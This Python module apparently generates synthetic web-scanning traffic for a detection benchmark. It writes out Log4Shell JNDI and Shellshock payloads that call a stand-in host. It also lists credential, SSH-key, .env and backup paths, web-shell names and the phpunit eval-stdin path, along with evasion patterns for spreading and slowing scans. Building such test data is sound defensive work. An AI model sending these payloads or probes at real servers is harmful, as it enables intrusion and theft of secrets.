"""Wordlists and lists of weaknesses at the web server, by theme and in disguise: each from one address or from a few."""

from __future__ import annotations

from itertools import product

from bench.access import BROWSERS
from bench.ordinary.actors import Case, Machine, third_scan
from bench.ordinary.network import ARTICLES
from bench.ordinary.offices import browse
from bench.ordinary.third_doors import jittered
from bench.ordinary.web_scans import WORDLIST

METHODS = ("OPTIONS", "TRACE", "PUT", "DELETE", "PROPFIND", "DEBUG")
HELD = (
    "/",
    "/upload/",
    "/files/",
    "/api/v1/items/7",
    "/login",
    "/products/1",
    "/images/",
    "/cgi-bin/",
    "/uploads/",
    "/dav/",
    "/webdav/",
    "/static/",
    "/tmp/",
    "/api/",
)
CHARGES = (
    "${jndi:ldap://192.0.2.77:1389/a}",
    "${${lower:j}ndi:dns://x.example.net/a}",
    "() { :; }; /bin/ping -c 1 192.0.2.77",
)
USERS = (
    "root",
    "admin",
    "www",
    "ftp",
    "oracle",
    "test",
    "guest",
    "postgres",
    "mysql",
    "nagios",
    "git",
    "backup",
    "jenkins",
    "ubuntu",
    "user",
    "webmaster",
    "mail",
    "info",
)
DOCUMENTS = ("/swagger-ui.html", "/swagger-ui/index.html", "/swagger/v1/swagger.json", "/v2/api-docs", "/v3/api-docs", "/openapi.json", "/openapi.yaml", "/api-docs",
             "/api/docs", "/docs", "/redoc", "/graphql", "/graphiql", "/playground", "/altair", "/api/graphql", "/v1/graphql", "/wsdl", "/service?wsdl", "/rest/api/latest",
             "/api/swagger.yaml", "/api.raml", "/rpc", "/jsonrpc", "/odata/$metadata", "/asyncapi.json")  # fmt: skip
FOLDERS = ("", "/blog", "/products", "/news", "/api", "/app", "/old", "/dev", "/shop", "/assets", "/account", "/wp")
KEYS = (".env", ".git/HEAD", ".git/config", ".htpasswd", "config.php.bak")
CLOUD_KEYS = ("/.aws/credentials", "/.aws/config", "/.azure/accessTokens.json", "/.config/gcloud/credentials.db", "/.docker/config.json", "/.kube/config", "/.npmrc", "/.pypirc",
              "/.netrc", "/.ssh/id_rsa", "/.ssh/id_ed25519", "/.git-credentials", "/.boto", "/.s3cfg", "/credentials.json", "/service-account.json", "/terraform.tfstate",
              "/.terraform/terraform.tfstate", "/terraform.tfvars", "/ansible/vault.yml", "/.vault-token", "/secrets.yml", "/config/secrets.yml", "/config/master.key",
              "/.bash_history", "/.zsh_history", "/.mysql_history", "/id_rsa", "/firebase.json", "/.firebaserc", "/appsettings.json", "/local.settings.json",
              "/web.config", "/.travis.yml", "/.circleci/config.yml", "/sftp-config.json", "/.vscode/sftp.json", "/.ftpconfig", "/deploy.json")  # fmt: skip
LOGINS = ("/signin", "/user/login", "/users/sign_in", "/admin/login", "/administrator/", "/auth/realms/master/", "/adfs/ls/IdpInitiatedSignon.aspx", "/owa/auth/logon.aspx",
          "/cas/login", "/saml/login", "/oauth/authorize", "/account/login/", "/accounts/login/", "/sso", "/session/new", "/cpanel", "/whm", "/webmail/", "/roundcube/",
          "/zimbra/", "/citrix/", "/portal/login", "/intranet/login", "/staff/login", "/backend", "/manager", "/controlpanel", "/login.action", "/login.aspx", "/login.jsp")  # fmt: skip
COPIES = ("~", ".bak", ".orig", ".swp", ".save")
SHELLS = ("wp", "alfa", "shell", "c99", "r57", "about", "radio", "wso", "mini", "up", "upload", "cmd", "x", "xx", "1", "0x", "b374k", "indoxploit", "marijuana", "fm", "files",
          "lock360", "ws", "gel4y", "moon", "bypass", "doc", "admin", "simple", "style", "themes", "ms-edit", "autoload_classmap", "chosen", "wp-conflg", "wp-sigunq", "cong",
          "goods", "item", "ioxi-o", "atomlib", "dropdown", "defaults", "as", "inputs", "manager", "content", "buy", "403", "404", "error", "makeasmtp", "sx", "text", "byp")  # fmt: skip
UNIT = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
BASES = ("", "/laravel", "/www", "/ws", "/yii", "/zend", "/ws/ec", "/V2", "/tests", "/test", "/testing", "/api", "/demo", "/cms", "/crm", "/admin", "/backup", "/blog",
         "/workspace/drupal", "/panel", "/public", "/apps", "/app", "/lib", "/lib/phpunit", "/core", "/old", "/new")  # fmt: skip


@third_scan("methods", "T1595.002")
def methods(case: Case) -> None:
    """Try six methods on fourteen places of the site, to learn where something may be stored, deleted or echoed."""
    scanner, pairs = case.machine("linux"), list(product(HELD, METHODS))
    for at, (path, method) in zip(case.paced(len(pairs), 2, case.moment()), pairs, strict=True):
        scanner.get(at, path, case.rng.choice((405, 405, 501)) if method != "OPTIONS" else 200, method)


@third_scan("charged-names", "T1595.002")
def charged_names(case: Case) -> None:
    """Read twenty-four ordinary pages with an attack in place of the browser's name and of the page before."""
    scanner = case.machine("linux")
    for at, page in zip(case.paced(24, 4, case.moment()), case.rng.sample(ARTICLES, 24), strict=True):
        charge = case.rng.choice(CHARGES)
        scanner.get(at, page, agent=charge, referer=charge)


@third_scan("home-directories", "T1595.003")
def home_directories(case: Case) -> None:
    """Guess who has a home page on the server: eighteen names, as user and as folder, one in a minute."""
    scanner = case.machine("linux")
    guesses = [path for name in USERS for path in (f"/~{name}", f"/~{name}/")]
    for at, path in zip(jittered(case, len(guesses), 60, case.rng.uniform(0.1, 0.8)), guesses, strict=True):
        scanner.get(at, path, case.rng.choice((403, 404, 404)))


@third_scan("documents-of-interfaces", "T1595.003")
def documents_of_interfaces(case: Case) -> None:
    """Look for what describes the interfaces of a program, in twenty-six usual places, under a library's name."""
    scanner = case.machine("linux")
    for at, path in zip(
        case.paced(len(DOCUMENTS), 3, case.moment()), case.rng.sample(DOCUMENTS, len(DOCUMENTS)), strict=True
    ):
        scanner.get(at, path, 404, agent="axios/1.7.9", site="api.example.org")


@third_scan("keys-in-every-folder", "T1595.003")
def keys_in_every_folder(case: Case) -> None:
    """Ask each folder of the site for five files that should not be there, between pages read and with its own bot's name."""
    scanner, paths = case.machine("linux"), [f"{folder}/{key}" for folder in FOLDERS for key in KEYS]
    agent = "Mozilla/5.0 (compatible; SiteExplorer/1.0; +https://explorer.example.net)"
    case.rng.shuffle(paths)
    for at, path in zip(case.paced(len(paths), 50), paths, strict=True):
        scanner.cover = True
        for n in range(case.rng.randint(1, 5)):
            scanner.get(at + 4 * n, case.rng.choice(ARTICLES), agent=agent)
        scanner.cover = False
        scanner.get(at + 30, path, agent=agent)


@third_scan("keys-of-clouds", "T1595.003")
def keys_of_clouds(case: Case) -> None:
    """Look for the keys of clouds and builders with HEAD, one in eleven minutes on average."""
    scanner = case.machine("windows")
    for at, path in zip(
        jittered(case, len(CLOUD_KEYS), 660), case.rng.sample(CLOUD_KEYS, len(CLOUD_KEYS)), strict=True
    ):
        scanner.get(at, path, method="HEAD")


@third_scan("ways-to-log-in", "T1595.003")
def ways_to_log_in(case: Case) -> None:
    """Look for every place where one may log in: thirty of them, shared by three addresses of different providers over half an hour."""
    members = case.machines(3)
    for n, (at, path) in enumerate(zip(case.paced(len(LOGINS), 60, case.moment() * 0.9), LOGINS, strict=True)):
        members[n % 3].get(at, path)


@third_scan("copies-of-pages", "T1595.003")
def copies_of_pages(case: Case) -> None:
    """Ask for the copies that an editor leaves beside a page, of twenty-five pages that it reads first."""
    scanner = case.machine("linux")
    for at, page in zip(case.paced(25, 40, case.moment() * 0.9), case.rng.sample(ARTICLES, 25), strict=True):
        scanner.cover = True
        scanner.get(at, page)
        scanner.cover = False
        for n, ending in enumerate(COPIES):
            scanner.get(at + 3 + 2 * n, page + ending, 404, referer=f"https://www.example.org{page}")


@third_scan("dated-dumps", "T1595.003")
def dated_dumps(case: Case) -> None:
    """Guess the names of dumps by their date, two for each day of seven weeks back, one in ten minutes."""
    scanner, days = case.machine("linux"), [(2, 29 - n) if n < 29 else (1, 60 - n) for n in range(1, 50)]
    paths = [
        path
        for month, day in days
        for path in (f"/backup-2026-{month:02d}-{day:02d}.sql.gz", f"/dump_2026{month:02d}{day:02d}.zip")
    ]
    for at, path in zip(jittered(case, len(paths), 600), paths, strict=True):
        scanner.get(at, path)


@third_scan("left-shells", "T1595.003")
def left_shells(case: Case) -> None:
    """Look for the back doors of others: fifty-five names of scripts, in the root and two folders of a content system, two a second."""
    scanner = case.machine("linux")
    paths = [f"{case.rng.choice(('', '', '/wp-content', '/wp-includes'))}/{name}.php" for name in SHELLS]
    for at, path in zip(case.paced(len(paths), 0.5, case.moment()), paths, strict=True):
        scanner.get(at, path, case.rng.choice((404, 404, 404, 301)))


@third_scan("one-weakness-many-places", "T1595.002")
def one_weakness_many_places(case: Case) -> None:
    """Look for one script of a testing tool below twenty-eight folders, with GET and POST by turns."""
    scanner = case.machine("linux")
    for n, (at, base) in enumerate(zip(case.paced(len(BASES), 1, case.moment()), BASES, strict=True)):
        scanner.get(at, base + UNIT, 404, ("GET", "POST")[n % 2], agent="-")


@third_scan("one-word-in-seven-pages", "T1595.003")
def one_word_in_seven_pages(case: Case) -> None:
    """Read the site for three days with all its parts like somebody who likes it, and try a word after every few pages."""
    reader = case.machine("windows")
    for at, word in zip(jittered(case, 45, 5_200), case.rng.sample(WORDLIST, 45), strict=True):
        reader.cover = True
        browse(case, reader, at, 6)
        reader.cover = False
        reader.get(at + 800, word, referer="https://www.example.org/")


@third_scan("folders-for-each", "T1595.003")
def folders_for_each(case: Case) -> None:
    """Give each of ten unrelated addresses a folder, below which it tries the same fifteen words, with another browser each."""
    words, begin = case.rng.sample(WORDLIST, 15), case.rng.uniform(0.05, 0.7)
    for n, (member, folder) in enumerate(zip(case.machines(10), FOLDERS[1:], strict=False)):
        for at, word in zip(jittered(case, 15, 150, begin), words, strict=True):
            member.get(at, folder + word, 404, agent=BROWSERS[3 * n])


@third_scan("list-among-bots", "T1595.002")
def list_among_bots(case: Case) -> None:
    """Share a list of sixty keys and back doors among sixty bots of unrelated networks, one each, under one odd name, in two hours."""
    paths = [*CLOUD_KEYS, *(f"/{name}.php" for name in SHELLS)][:60]
    agent = f"Mozilla/5.0 (Windows NT 10.0; rv:{case.rng.randrange(60, 99)}.0) Gecko/2010010{case.rng.randrange(9)} Firefox/{case.rng.randrange(60, 99)}.0"
    for at, path, bot in zip(case.paced(60, 120), case.rng.sample(paths, 60), case.machines(60, "linux"), strict=True):
        Machine.get(bot, at, path, 404, agent=agent)
